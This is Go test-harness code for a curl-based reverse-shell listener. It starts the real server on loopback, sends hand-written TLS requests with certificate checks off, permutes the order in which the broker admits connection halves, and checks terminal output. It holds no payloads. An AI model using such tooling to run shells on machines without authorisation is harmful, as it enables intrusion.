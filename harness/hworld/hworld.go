// Package hworld runs the real hsrv.Server and iobroker.Broker in-process on
// a loopback port and drives them with hand-written requests over real TLS.
package hworld

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/rcall"
)

// Watchdog is how long any single wait may take before it counts as a hang.
const Watchdog = 30 * time.Second

// Config is what the real binary would get from its flags.
type Config struct {
	Listen    string
	FDir      string
	Tmplf     string
	CertFile  string
	CbAddrs   []string
	PrintIPv6 bool
	OneShell  bool
	LogW      io.Writer /* JSON log, or nil. */
	OchCap    int       /* Capacity of the operator channel; 0 = 4096. */
}

// World is one running server.
type World struct {
	Cfg    Config
	Srv    *hsrv.Server
	B      *iobroker.Broker
	Ich    chan string
	Och    chan opshell.CLine
	Addr   string /* Bound address, host:port. */
	Port   string
	cancel context.CancelFunc
	wg     sync.WaitGroup
	SrvErr error
	BErr   error

	mu      sync.Mutex
	Startup []opshell.CLine /* Notices printed before the first request. */
}

// Start starts a server.  The start-up notices (up to and including the
// callback help) are collected into Startup.
func Start(cfg Config) (*World, error) {
	if "" == cfg.Listen {
		cfg.Listen = "127.0.0.1:0"
	}
	w := &World{
		Cfg: cfg,
		Ich: make(chan string, 1024),
	}
	if 0 == cfg.OchCap {
		cfg.OchCap = 4096
	}
	w.Och = make(chan opshell.CLine, cfg.OchCap)
	if cfg.OchCap < 64 {
		/* Start-up prints more than that: take the start-up notices off
		as they come. */
	}
	var err error
	if w.B, err = NewBroker(w.Ich, w.Och); nil != err {
		return nil, err
	}
	lw := cfg.LogW
	if nil == lw {
		lw = io.Discard
	}
	sl := slog.New(slog.NewJSONHandler(lw, nil))
	if w.Srv, err = NewServer(sl, cfg.Listen, cfg.FDir, cfg.Tmplf, w.Ich, w.Och, w.B, cfg.CertFile, cfg.CbAddrs, cfg.PrintIPv6, cfg.OneShell); nil != err {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	w.cancel = cancel
	w.wg.Add(2)
	go func() { defer w.wg.Done(); w.SrvErr = w.Srv.Do(ctx) }()
	go func() { defer w.wg.Done(); w.BErr = w.B.Do(ctx) }()
	/* Start-up notices end with the callback help (one NoTimestamp line
	after "To get a shell:"). */
	deadline := time.After(Watchdog)
	sawShell := false
	for {
		select {
		case cl := <-w.Och:
			w.Startup = append(w.Startup, cl)
			if strings.HasPrefix(cl.Line, "Listening on ") {
				w.Addr = strings.TrimPrefix(cl.Line, "Listening on ")
				_, w.Port, _ = net.SplitHostPort(w.Addr)
			}
			if "To get a shell:" == cl.Line {
				sawShell = true
				continue
			}
			if sawShell {
				/* The template warning, if any, follows at once. */
				time.Sleep(0)
				for {
					select {
					case cl := <-w.Och:
						w.Startup = append(w.Startup, cl)
						continue
					case <-time.After(20 * time.Millisecond):
					}
					break
				}
				if "" == w.Addr {
					w.Stop()
					return nil, fmt.Errorf("no 'Listening on' notice")
				}
				return w, nil
			}
		case <-deadline:
			w.Stop()
			return nil, fmt.Errorf("server did not print its start-up notices")
		}
	}
}

// Stop shuts the server down and waits for it.
func (w *World) Stop() {
	w.cancel()
	done := make(chan struct{})
	go func() { w.wg.Wait(); close(done) }()
	for {
		select {
		case <-w.Och: /* Keep the operator channel moving. */
		case <-done:
			return
		case <-time.After(Watchdog):
			return
		}
	}
}

// Drain returns the notices currently in the operator channel.
func (w *World) Drain() []opshell.CLine {
	var out []opshell.CLine
	for {
		select {
		case cl := <-w.Och:
			out = append(out, cl)
		default:
			return out
		}
	}
}

// WaitNotice consumes notices until one satisfies pred (returned last).
func (w *World) WaitNotice(pred func(opshell.CLine) bool) ([]opshell.CLine, bool) {
	var out []opshell.CLine
	t := time.NewTimer(Watchdog)
	defer t.Stop()
	for {
		select {
		case cl := <-w.Och:
			out = append(out, cl)
			if pred(cl) {
				return out, true
			}
		case <-t.C:
			return out, false
		}
	}
}

// Conn is a raw TLS connection to the server.
type Conn struct {
	C     *tls.Conn
	R     *bufio.Reader
	State tls.ConnectionState
}

// Dial opens a TLS connection; sni may be empty.
func (w *World) Dial(sni string) (*Conn, error) {
	return DialAddr(w.Addr, sni)
}

// DialAddr opens a TLS connection to addr without verifying the certificate.
func DialAddr(addr, sni string) (*Conn, error) {
	d := &net.Dialer{Timeout: Watchdog}
	c, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{InsecureSkipVerify: true, ServerName: sni})
	if nil != err {
		return nil, err
	}
	return &Conn{C: c, R: bufio.NewReader(c), State: c.ConnectionState()}, nil
}

// Close closes the connection.
func (c *Conn) Close() { c.C.Close() }

// Send writes raw bytes.
func (c *Conn) Send(raw string) error {
	c.C.SetWriteDeadline(time.Now().Add(Watchdog))
	_, err := io.WriteString(c.C, raw)
	return err
}

// Response is a parsed response.
type Response struct {
	Status int
	Header http.Header
	Body   []byte
}

// ReadResponse reads one complete response (for the given method).
func (c *Conn) ReadResponse(method string) (*Response, error) {
	c.C.SetReadDeadline(time.Now().Add(Watchdog))
	res, err := http.ReadResponse(c.R, &http.Request{Method: method})
	if nil != err {
		return nil, err
	}
	b, err := io.ReadAll(res.Body)
	res.Body.Close()
	if nil != err {
		return nil, err
	}
	return &Response{Status: res.StatusCode, Header: res.Header, Body: b}, nil
}

// ReadHeader reads just the status line and headers, leaving the body (for
// streaming endpoints).
func (c *Conn) ReadHeader(method string) (*http.Response, error) {
	c.C.SetReadDeadline(time.Now().Add(Watchdog))
	return http.ReadResponse(c.R, &http.Request{Method: method})
}

// Do sends one request and reads the response.
func (c *Conn) Do(raw string) (*Response, error) {
	if err := c.Send(raw); nil != err {
		return nil, err
	}
	method, _, _ := strings.Cut(raw, " ")
	return c.ReadResponse(method)
}

// Get is a convenience: GET target HTTP/1.1 with Host and extra headers.
func Get(target, host string, extra ...string) string {
	var sb strings.Builder
	fmt.Fprintf(&sb, "GET %s HTTP/1.1\r\nHost: %s\r\n", target, host)
	for _, h := range extra {
		sb.WriteString(h + "\r\n")
	}
	sb.WriteString("\r\n")
	return sb.String()
}

// LeafPin returns base64(SHA-256(SubjectPublicKeyInfo)) of the leaf the
// server presented on c, computed from the wire certificate.
func (c *Conn) LeafPin() (string, error) {
	if 0 == len(c.State.PeerCertificates) {
		return "", fmt.Errorf("no peer certificate")
	}
	return PinOf(c.State.PeerCertificates[0]), nil
}

// PinOf is curl's --pinnedpubkey value for cert.
func PinOf(cert *x509.Certificate) string {
	h := sha256.Sum256(cert.RawSubjectPublicKeyInfo)
	return base64.StdEncoding.EncodeToString(h[:])
}

// NoticeText joins notices for messages.
func NoticeText(cls []opshell.CLine) string {
	var b bytes.Buffer
	for _, cl := range cls {
		fmt.Fprintf(&b, "%q ", cl.Line)
	}
	return b.String()
}

// NewBroker calls iobroker.New and NewServer calls hsrv.New, both through
// reflection (package rcall): parameters they may have grown get zero values.
func NewBroker(ich chan string, och chan opshell.CLine) (*iobroker.Broker, error) {
	res := rcall.Call(iobroker.New, ich, och)
	b, _ := res[0].(*iobroker.Broker)
	return b, rcall.Err(res)
}

func NewServer(sl *slog.Logger, listen, fdir, tmplf string, ich chan string, och chan opshell.CLine, b *iobroker.Broker, certFile string, cbAddrs []string, printIPv6, oneShell bool) (*hsrv.Server, error) {
	res := rcall.Call(hsrv.New, sl, listen, fdir, tmplf, ich, och, b, certFile, cbAddrs, printIPv6, oneShell)
	s, _ := res[0].(*hsrv.Server)
	return s, rcall.Err(res)
}
