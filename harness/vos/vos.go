// Package vos stands in for package os inside lib/sstls (by an import rewrite
// done in a build overlay, see tools/mkoverlay.py).  Every call is forwarded
// to the real file system, but mutating calls are logged, and a crash plan can
// cut the run short before any logged call or — inside WriteFile — after any
// number of bytes (a torn write).
package vos

import (
	"io/fs"
	"os"
	"syscall"
	"time"
)

// Re-exported names, so that the rewritten files (and plausible edits of
// them) keep compiling.
type (
	File       = os.File
	FileInfo   = os.FileInfo
	FileMode   = os.FileMode
	DirEntry   = os.DirEntry
	PathError  = os.PathError
	LinkError  = os.LinkError
	Process    = os.Process
	Signal     = os.Signal
	SyscallErr = os.SyscallError
)

const (
	O_RDONLY = os.O_RDONLY
	O_WRONLY = os.O_WRONLY
	O_RDWR   = os.O_RDWR
	O_APPEND = os.O_APPEND
	O_CREATE = os.O_CREATE
	O_EXCL   = os.O_EXCL
	O_SYNC   = os.O_SYNC
	O_TRUNC  = os.O_TRUNC

	ModePerm    = os.ModePerm
	ModeDir     = os.ModeDir
	ModeSymlink = os.ModeSymlink

	PathSeparator = os.PathSeparator
)

var (
	ErrNotExist   = os.ErrNotExist
	ErrExist      = os.ErrExist
	ErrPermission = os.ErrPermission
	ErrInvalid    = os.ErrInvalid
	ErrClosed     = os.ErrClosed

	Stdin  = os.Stdin
	Stdout = os.Stdout
	Stderr = os.Stderr
	Args   = os.Args
)

// Op is one logged (mutating) call.
type Op struct {
	Kind string
	Path string
	To   string /* Rename / Link / Symlink target. */
	N    int    /* WriteFile: number of bytes. */
	Perm FileMode
	Data []byte /* WriteFile: the bytes. */
}

// CrashPlan says where the run is cut short.
type CrashPlan struct {
	AtOp  int /* Index of the logged call at which to crash. */
	Bytes int /* WriteFile: bytes written before the crash; -1: before the call does anything. */
	/* Err: instead of crashing, WriteFile writes Bytes bytes and returns
	"no space left on device" (the process goes on). */
	Err bool
}

// Crash is the panic value of a planned crash.
type Crash struct{ Op Op }

var (
	// Log is the list of mutating calls so far.
	Log []Op
	// Plan is the current crash plan, or nil.
	Plan *CrashPlan
	// AfterStep, if set, is called after every observable step of a
	// mutating call (also between the steps of WriteFile).
	AfterStep func(op Op, step string)
)

// Reset clears the log and the plan.
func Reset() { Log, Plan, AfterStep = nil, nil, nil }

// begin logs op and crashes if the plan says "before this call".
func begin(op Op) int {
	i := len(Log)
	Log = append(Log, op)
	if nil != Plan && Plan.AtOp == i && Plan.Bytes < 0 && !Plan.Err {
		panic(Crash{op})
	}
	return i
}

func step(op Op, s string) {
	if nil != AfterStep {
		AfterStep(op, s)
	}
}

// WriteFile is os.WriteFile executed as its constituent steps.
func WriteFile(name string, data []byte, perm FileMode) error {
	op := Op{Kind: "WriteFile", Path: name, N: len(data), Perm: perm, Data: append([]byte{}, data...)}
	i := begin(op)
	f, err := os.OpenFile(name, os.O_WRONLY|os.O_CREATE|os.O_TRUNC, perm)
	if nil != err {
		return err
	}
	step(op, "created")
	k := len(data)
	crash := nil != Plan && Plan.AtOp == i
	if crash && Plan.Bytes < k {
		k = Plan.Bytes
	}
	_, err = f.Write(data[:k])
	if err1 := f.Close(); nil != err1 && nil == err {
		err = err1
	}
	if crash && Plan.Err {
		step(op, "failed")
		return &os.PathError{Op: "write", Path: name, Err: syscall.ENOSPC}
	}
	if crash {
		panic(Crash{op})
	}
	step(op, "written")
	return err
}

func MkdirAll(path string, perm FileMode) error {
	op := Op{Kind: "MkdirAll", Path: path, Perm: perm}
	begin(op)
	err := os.MkdirAll(path, perm)
	step(op, "done")
	return err
}

func Mkdir(path string, perm FileMode) error {
	op := Op{Kind: "Mkdir", Path: path, Perm: perm}
	begin(op)
	err := os.Mkdir(path, perm)
	step(op, "done")
	return err
}

func Create(name string) (*File, error) {
	op := Op{Kind: "Create", Path: name, Perm: 0o666}
	begin(op)
	f, err := os.Create(name)
	step(op, "done")
	return f, err
}

func OpenFile(name string, flag int, perm FileMode) (*File, error) {
	if 0 == flag&(os.O_WRONLY|os.O_RDWR|os.O_CREATE|os.O_TRUNC|os.O_APPEND) {
		return os.OpenFile(name, flag, perm)
	}
	op := Op{Kind: "OpenFile", Path: name, Perm: perm}
	begin(op)
	f, err := os.OpenFile(name, flag, perm)
	step(op, "done")
	return f, err
}

func CreateTemp(dir, pattern string) (*File, error) {
	op := Op{Kind: "CreateTemp", Path: dir, To: pattern}
	begin(op)
	f, err := os.CreateTemp(dir, pattern)
	if nil == err {
		op.Path = f.Name()
		Log[len(Log)-1] = op
	}
	step(op, "done")
	return f, err
}

func MkdirTemp(dir, pattern string) (string, error) {
	op := Op{Kind: "MkdirTemp", Path: dir, To: pattern}
	begin(op)
	d, err := os.MkdirTemp(dir, pattern)
	step(op, "done")
	return d, err
}

func Rename(oldpath, newpath string) error {
	op := Op{Kind: "Rename", Path: oldpath, To: newpath}
	begin(op)
	err := os.Rename(oldpath, newpath)
	step(op, "done")
	return err
}

func Remove(name string) error {
	op := Op{Kind: "Remove", Path: name}
	begin(op)
	err := os.Remove(name)
	step(op, "done")
	return err
}

func RemoveAll(name string) error {
	op := Op{Kind: "RemoveAll", Path: name}
	begin(op)
	err := os.RemoveAll(name)
	step(op, "done")
	return err
}

func Chmod(name string, mode FileMode) error {
	op := Op{Kind: "Chmod", Path: name, Perm: mode}
	begin(op)
	err := os.Chmod(name, mode)
	step(op, "done")
	return err
}

func Chtimes(name string, a, m time.Time) error {
	op := Op{Kind: "Chtimes", Path: name}
	begin(op)
	err := os.Chtimes(name, a, m)
	step(op, "done")
	return err
}

func Truncate(name string, size int64) error {
	op := Op{Kind: "Truncate", Path: name, N: int(size)}
	begin(op)
	err := os.Truncate(name, size)
	step(op, "done")
	return err
}

func Symlink(oldname, newname string) error {
	op := Op{Kind: "Symlink", Path: newname, To: oldname}
	begin(op)
	err := os.Symlink(oldname, newname)
	step(op, "done")
	return err
}

func Link(oldname, newname string) error {
	op := Op{Kind: "Link", Path: newname, To: oldname}
	begin(op)
	err := os.Link(oldname, newname)
	step(op, "done")
	return err
}

// Read-only and environment calls are forwarded unchanged.
func Open(name string) (*File, error)               { return os.Open(name) }
func ReadFile(name string) ([]byte, error)          { return os.ReadFile(name) }
func ReadDir(name string) ([]DirEntry, error)       { return os.ReadDir(name) }
func Stat(name string) (FileInfo, error)            { return os.Stat(name) }
func Lstat(name string) (FileInfo, error)           { return os.Lstat(name) }
func Readlink(name string) (string, error)          { return os.Readlink(name) }
func UserCacheDir() (string, error)                 { return os.UserCacheDir() }
func UserHomeDir() (string, error)                  { return os.UserHomeDir() }
func UserConfigDir() (string, error)                { return os.UserConfigDir() }
func TempDir() string                               { return os.TempDir() }
func Getenv(k string) string                        { return os.Getenv(k) }
func LookupEnv(k string) (string, bool)             { return os.LookupEnv(k) }
func Getwd() (string, error)                        { return os.Getwd() }
func Getpid() int                                   { return os.Getpid() }
func Getuid() int                                   { return os.Getuid() }
func Hostname() (string, error)                     { return os.Hostname() }
func IsNotExist(err error) bool                     { return os.IsNotExist(err) }
func IsExist(err error) bool                        { return os.IsExist(err) }
func IsPermission(err error) bool                   { return os.IsPermission(err) }
func SameFile(a, b FileInfo) bool                   { return os.SameFile(a, b) }
func DirFS(dir string) fs.FS                        { return os.DirFS(dir) }
func Exit(code int)                                 { os.Exit(code) }
func Executable() (string, error)                   { return os.Executable() }
func Expand(s string, m func(string) string) string { return os.Expand(s, m) }
func ExpandEnv(s string) string                     { return os.ExpandEnv(s) }
