package checks

/*
 * The HTTP seam of C06, with the broker's gates: real full-duplex /io
 * requests (and /i, /o) over TLS against the in-process server, whose broker
 * halves are parked by the verif hooks; every order of admitting the halves is
 * executed (stateless DFS over permutations).  A request is recognised in the
 * hook by the identity of the context the handler passed down (both halves of
 * one /io request carry the same context object); clients are started one at a
 * time and awaited until their halves are parked.
 */

import (
	"context"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

type hgHalf struct {
	client int
	dir    string
	gate   chan struct{}
	state  string /* parked | admitted | done */
}

type hgate struct {
	mu      sync.Mutex
	byCtx   map[context.Context]int /* context -> client */
	halves  []*hgHalf
	pending int /* Client currently being started. */
	free    bool
	arrived chan struct{}
}

func (g *hgate) hook(ctx context.Context, point, dir, key string) {
	g.mu.Lock()
	if g.free {
		g.mu.Unlock()
		return
	}
	cl, ok := g.byCtx[ctx]
	if !ok {
		cl = g.pending
		g.byCtx[ctx] = cl
	}
	var h *hgHalf
	for _, x := range g.halves {
		if x.client == cl && x.dir == dir {
			h = x
		}
	}
	switch point {
	case "admit":
		h = &hgHalf{client: cl, dir: dir, gate: make(chan struct{}), state: "parked"}
		g.halves = append(g.halves, h)
		g.mu.Unlock()
		select {
		case g.arrived <- struct{}{}:
		default:
		}
		<-h.gate
		return
	case "admitted":
		if nil != h {
			h.state = "admitted"
		}
	case "done":
		if nil != h {
			h.state = "done"
		}
	}
	g.mu.Unlock()
}

func (g *hgate) nHalves(cl int) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	n := 0
	for _, h := range g.halves {
		if h.client == cl {
			n++
		}
	}
	return n
}

type hgClient struct {
	kind string /* io | i | o */
	conn *hworld.Conn
	body io.Reader /* Response body (input stream), once the header was read. */
}

// c06HTTPRun admits the halves in the given order and judges the outcome.
func c06HTTPRun(r *ev.Result, kinds []string, order []int) (nHalves int) {
	rp := map[string]any{"http_seam": kinds, "admission_order": order}
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "http/" + sig, What: fmt.Sprintf("clients %v, halves admitted in the order %v: %s", kinds, order, what), Kind: "c06http", Replay: rp})
	}
	g := &hgate{byCtx: map[context.Context]int{}, arrived: make(chan struct{}, 16)}
	iobroker.VerifHook = g.hook
	defer func() { iobroker.VerifHook = nil }()
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer func() {
		g.mu.Lock()
		g.free = true
		for _, h := range g.halves {
			select {
			case <-h.gate:
			default:
				close(h.gate)
			}
		}
		g.mu.Unlock()
		w.Stop()
	}()
	/* Start the clients one at a time. */
	clients := make([]*hgClient, len(kinds))
	for i, k := range kinds {
		g.mu.Lock()
		g.pending = i
		g.mu.Unlock()
		c, err := w.Dial("")
		if nil != err {
			ev.Broken("%s", err)
		}
		defer c.Close()
		clients[i] = &hgClient{kind: k, conn: c}
		want := 1
		switch k {
		case "io":
			c.Send("POST /io HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			want = 2
		case "io/k":
			/* Anything below /io/ is /io: here it ends like the ID the
			unidirectional clients use. */
			c.Send("POST /io/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
			want = 2
		case "i":
			c.Send(hworld.Get("/i/k", w.Addr))
		case "o":
			c.Send("POST /o/k HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
		}
		deadline := time.After(hworld.Watchdog)
		for g.nHalves(i) < want {
			select {
			case <-g.arrived:
			case <-time.After(time.Millisecond):
			case <-deadline:
				ev.Broken("c06 http seam: client %d (%s) never reached the broker", i, k)
			}
		}
	}
	g.mu.Lock()
	halves := append([]*hgHalf{}, g.halves...)
	g.mu.Unlock()
	nHalves = len(halves)
	if nil == order {
		return nHalves
	}
	/* Admit in the given order; each admission is acknowledged by
	"admitted" or "done". */
	for _, hi := range order {
		h := halves[hi]
		close(h.gate)
		deadline := time.Now().Add(hworld.Watchdog)
		for {
			g.mu.Lock()
			st := h.state
			g.mu.Unlock()
			if "parked" != st {
				break
			}
			if time.Now().After(deadline) {
				v("admission-hangs", fmt.Sprintf("half %d (%s of client %d) neither attached nor finished", hi, h.dir, h.client))
				return
			}
			time.Sleep(50 * time.Microsecond)
		}
	}
	/* Who is attached, according to the broker's own acknowledgements. */
	att := map[string]int{}
	g.mu.Lock()
	for _, h := range halves {
		if "admitted" == h.state {
			if prev, dup := att[h.dir]; dup {
				g.mu.Unlock()
				v("two-attached", fmt.Sprintf("clients %d and %d both hold the %s direction", prev, h.client, h.dir))
				return
			}
			att[h.dir] = h.client
		}
	}
	g.mu.Unlock()
	ci, hasIn := att["input"]
	co, hasOut := att["output"]
	isIO := func(k string) bool { return strings.HasPrefix(k, "io") }
	if hasIn && hasOut && ci != co && (isIO(kinds[ci]) || isIO(kinds[co])) {
		v("cross-paired-halves", fmt.Sprintf("the shell is made of the input of client %d (%s) and the output of client %d (%s)", ci, kinds[ci], co, kinds[co]))
	}
	/* And according to the traffic. */
	w.Drain()
	w.Ich <- "probe-line"
	if hasIn {
		c := clients[ci]
		res, err := c.conn.ReadHeader("GET")
		if nil != err {
			v("probe-line-not-delivered", err.Error())
			return
		}
		if got, err := readUntil(c.conn, res.Body, "probe-line\n"); nil != err {
			v("probe-line-not-delivered", fmt.Sprintf("client %d holds the input direction but got %q, %v", ci, got, err))
			return
		}
	}
	for i, c := range clients {
		if "i" == c.kind {
			continue
		}
		c.conn.Send(chunk(fmt.Sprintf("output-of-client-%d\n", i)))
	}
	if hasOut {
		ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return cl.Plain && strings.Contains(cl.Line, "output-of-client-") })
		if !ok {
			v("probe-chunk-not-shown", fmt.Sprintf("client %d holds the output direction but nothing was displayed", co))
			return
		}
		if last := ns[len(ns)-1].Line; !strings.Contains(last, fmt.Sprintf("output-of-client-%d\n", co)) {
			v("wrong-output-shown", fmt.Sprintf("client %d holds the output direction but %q was displayed", co, last))
		}
		if hasIn && ci != co && ("io" == kinds[ci] || "io" == kinds[co]) {
			v("cross-paired-halves", fmt.Sprintf("the operator's line went to client %d, the displayed output comes from client %d", ci, co))
		}
	}
	return nHalves
}

// c06HTTP explores every admission order for a few client sets.
func c06HTTP(r *ev.Result, quick bool) {
	sets := [][]string{{"io", "io"}, {"io", "i"}, {"o", "io"}, {"io", "io", "i"}, {"io/k", "o"}, {"i", "io/k"}}
	if !quick {
		sets = append(sets, []string{"io", "io", "io"}, []string{"io", "o", "i", "io"})
	}
	total := 0
	before := r.NViolations()
	for _, kinds := range sets {
		n := c06HTTPRun(r, kinds, nil)
		perm := make([]int, n)
		for i := range perm {
			perm[i] = i
		}
		var rec func(k int)
		rec = func(k int) {
			if r.NViolations() >= before+6 {
				return /* Enough to report. */
			}
			if k == n {
				c06HTTPRun(r, kinds, append([]int{}, perm...))
				total++
				return
			}
			for i := k; i < n; i++ {
				perm[k], perm[i] = perm[i], perm[k]
				rec(k + 1)
				perm[k], perm[i] = perm[i], perm[k]
			}
		}
		rec(0)
	}
	r.Evaluations += total
	r.Distinct += total
	r.Traces += total
	c06HTTPLateOutput(r)
	r.Set("http_seam_admission_orders", total)
	r.Sample(12, map[string]any{"http_seam": []string{"io", "io"}, "admission_order": []int{0, 3, 1, 2}, "meaning": "halves numbered in order of arrival at the broker: client 0's two, then client 1's two"})
}

// c06HTTPLateOutput: a unidirectional shell loses its input connection; its
// output connection stays open and idle (net/http keeps it until the client
// ends its upload).  A bidirectional client then becomes the shell.  What the
// old output connection sends now belongs to no shell: the operator's shell is
// made of the /io request's two halves only.
func c06HTTPLateOutput(r *ev.Result) {
	w, err := hworld.Start(hworld.Config{})
	if nil != err {
		ev.Broken("%s", err)
	}
	defer w.Stop()
	v := func(sig, what string) {
		r.Violate(ev.Violation{Signature: "http/" + sig, What: what, Kind: "c06http", Replay: map[string]any{"http_seam": "late output of an earlier shell"}})
	}
	in, out, err := attachShell(w, "uni", "old")
	if nil != err {
		v("no-shell", err.Error())
		return
	}
	defer out.Close()
	in.Close() /* The input connection dies; the output one stays, silent. */
	if _, ok := w.WaitNotice(func(cl opshell.CLine) bool { return strings.Contains(cl.Line, "Shell is gone") }); !ok {
		v("not-torn-down", "the input connection of a unidirectional shell was closed, no 'gone' notice followed")
		return
	}
	nio, _, err := attachShell(w, "io", "")
	if nil != err {
		v("next-shell-refused", "after the unidirectional shell was gone a bidirectional client is not accepted: "+err.Error())
		return
	}
	defer nio.Close()
	w.Drain()
	out.Send(chunk("OUTPUT-OF-THE-OLD-SHELL\n"))
	nio.Send(chunk("output-of-the-io-shell\n"))
	ns, ok := w.WaitNotice(func(cl opshell.CLine) bool { return cl.Plain && strings.Contains(cl.Line, "output-of-the-io-shell") })
	if !ok {
		v("probe-chunk-not-shown", "the bidirectional shell's output is not displayed")
	}
	time.Sleep(50 * time.Millisecond)
	for _, cl := range append(ns, w.Drain()...) {
		if cl.Plain && strings.Contains(cl.Line, "OUTPUT-OF-THE-OLD-SHELL") {
			v("cross-paired-halves", "the operator's shell is the /io client, yet what the earlier shell's still-open output connection sent was displayed as shell output: output of another request than the one whose input half is attached")
		}
	}
	r.Add(1)
	r.Traces++
}
