package checks

/*
 * The terminal seam of C03 (what the operator channel carries is what the
 * terminal shows, in order, however far behind the terminal is) and the
 * Ctrl+I seam of C02 (an insert enters the input channel as exactly one
 * entry).  Both need the real opshell.Shell, hence a worker whose controlling
 * terminal is a fresh pty (see c19.go for the session plumbing).
 */

import (
	"bufio"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"sort"
	"strings"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/quiesce"
)

func init() {
	workers["termseam"] = termSeamWorker
}

type seamViol struct {
	Sig  string `json:"sig"`
	What string `json:"what"`
	Case string `json:"case"`
}

type seamResult struct {
	Execs int        `json:"execs"`
	Steps int        `json:"steps"`
	Viols []seamViol `json:"viols"`
	Err   string     `json:"err,omitempty"`
}

var ansiRE = regexp.MustCompile(`\x1b\[[0-9;?]*[A-Za-z]`)

// seamItems: the alphabet of things the operator channel can carry.
//
//	R plain chunk with CR LF and a lone CR
//	P plain chunk ending in a newline     Q plain chunk without a newline
//	M plain chunk with embedded newlines  N notice (red, like a close notice)
//	S status line (green)
//	D plain chunk that is the same every time (a shell may well print the
//	  same bytes twice in a row: progress dots, "yes", two equal lines)
const seamAlphabet = "PQMRNSD"

func seamItem(kind byte, i int) (cl opshell.CLine, want string) {
	switch kind {
	case 'P':
		s := fmt.Sprintf("<P%d>plain\n", i)
		return opshell.CLine{Plain: true, Line: s}, strings.ReplaceAll(s, "\n", "\r\n")
	case 'Q':
		s := fmt.Sprintf("<Q%d>partial", i)
		return opshell.CLine{Plain: true, Line: s}, s
	case 'M':
		s := fmt.Sprintf("<M%d>one\ntwo\n\nthree", i)
		return opshell.CLine{Plain: true, Line: s}, strings.ReplaceAll(s, "\n", "\r\n")
	case 'R':
		/* A shell that sends CR LF itself: nothing of it may be dropped. */
		s := fmt.Sprintf("<R%d>dos\r\nline\rbar\r\n", i)
		return opshell.CLine{Plain: true, Line: s}, strings.ReplaceAll(s, "\n", "\r\n")
	case 'D':
		return opshell.CLine{Plain: true, Line: "dup."}, "dup."
	case 'U':
		/* Ends inside a multi-byte character (Latin-1 text, UTF-8 cut by
		head -c, binary): these bytes are output like any other. */
		s := fmt.Sprintf("<U%d>caf", i) + []string{"\xe9", "\xc3", "\xe2\x82", "\xf0\x9f\x98"}[i%4]
		return opshell.CLine{Plain: true, Line: s}, s
	case 'N':
		s := fmt.Sprintf("<N%d>[addr] Output connection closed", i)
		return opshell.CLine{Line: s, Color: opshell.ColorRed}, s + "\r\n"
	}
	s := fmt.Sprintf("<S%d>status", i)
	return opshell.CLine{Line: s, Color: opshell.ColorGreen}, s + "\r\n"
}

// seamRun sends seq through a real Shell in the given regime and compares the
// terminal with the expectation.
func seamRun(capPath, seq, regime string) (viols []seamViol, err error) {
	ts, err := newTermSessionDeferred(capPath, "backlog-before-start" == regime)
	if nil != err {
		return nil, err
	}
	defer ts.close()
	want := ""
	push := func(i int) {
		cl, w := seamItem(seq[i], i)
		want += w
		ts.och <- cl
	}
	switch regime {
	case "stepwise":
		quiesce.Wait()
		for i := range seq {
			push(i)
			quiesce.Wait()
		}
	case "burst":
		quiesce.Wait()
		for i := range seq {
			push(i)
		}
		quiesce.Wait()
	case "backlog-before-start":
		for i := range seq {
			push(i)
		}
		ts.start()
		quiesce.Wait()
	}
	got := ansiRE.ReplaceAllString(ts.output(), "")
	cs := regime + ":" + seq
	if got != want {
		/* Classify: lost, reordered, or changed. */
		sig := "terminal-differs"
		markers := regexp.MustCompile(`<[PQMRNSU]\d+>`)
		gm, wm := strings.Join(markers.FindAllString(got, -1), ""), strings.Join(markers.FindAllString(want, -1), "")
		switch {
		case gm == wm:
			sig = "terminal-bytes-changed"
		case len(gm) < len(wm):
			sig = "terminal-output-lost"
		default:
			sig = "terminal-order-changed"
		}
		viols = append(viols, seamViol{Sig: sig + "/" + regime, What: fmt.Sprintf("items %q sent %s: the terminal shows %q, expected %q", seq, regime, got, want), Case: cs})
	}
	return viols, nil
}

// newTermSessionDeferred is newTermSession with the start of Do optionally
// left to the caller (so that a backlog can build up first).
func newTermSessionDeferred(capPath string, deferStart bool) (*termSession, error) {
	ts, err := newTermSessionOpts(capPath, true, nil, deferStart)
	return ts, err
}

// c02InsertRun presses Ctrl+I with an n-byte payload and checks what enters
// the input channel and what the operator is told.
func c02InsertRun(capPath string, n int) (viols []seamViol, err error) {
	return c02InsertShaped(capPath, n, 27)
}

// c02InsertShaped: the payload has a newline every lineLen bytes (0: none).
func c02InsertShaped(capPath string, n, lineLen int) (viols []seamViol, err error) {
	payload := make([]byte, n)
	for i := range payload {
		payload[i] = "abcdefghijklmnopqrstuvwxyz"[i%26]
		if 0 != lineLen && lineLen-1 == i%lineLen {
			payload[i] = '\n'
		}
	}
	/* What the source holds when the key is pressed (the program is handed
	the source's own slice: it has no business writing into it). */
	given := payload
	payload = append([]byte{}, given...)
	ts, err := newTermSessionOpts(capPath, true, given, false)
	if nil != err {
		return nil, err
	}
	defer ts.close()
	quiesce.Wait()
	ts.output()
	ts.sh.VerifKey(0x09)
